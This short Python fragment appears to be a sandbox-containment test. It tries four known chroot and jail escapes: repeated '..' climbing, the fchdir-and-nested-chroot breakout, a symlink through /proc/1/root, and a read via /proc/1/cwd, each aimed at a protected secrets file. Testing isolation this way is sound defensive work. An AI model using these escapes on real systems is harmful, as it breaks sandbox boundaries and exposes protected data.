# Climbs out of its root by .., by fchdir, by chroot and by links to the root of others.
def climb():
    os.chdir("/")
    for _ in range(64):
        os.chdir("..")
    return read(secrets["file"].lstrip("/"))


def break_out():
    root = os.open("/", os.O_RDONLY)
    os.mkdir("/tmp/trap")
    os.chroot("/tmp/trap")
    os.fchdir(root)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read(secrets["file"])


def by_link():
    os.symlink("/proc/1/root" + secrets["file"], "/tmp/link")
    return read("/tmp/link")


attempt("climb", climb)
attempt("chroot", break_out)
attempt("link", by_link)
attempt("cwd of the first process", read, "/proc/1/cwd" + secrets["file"])
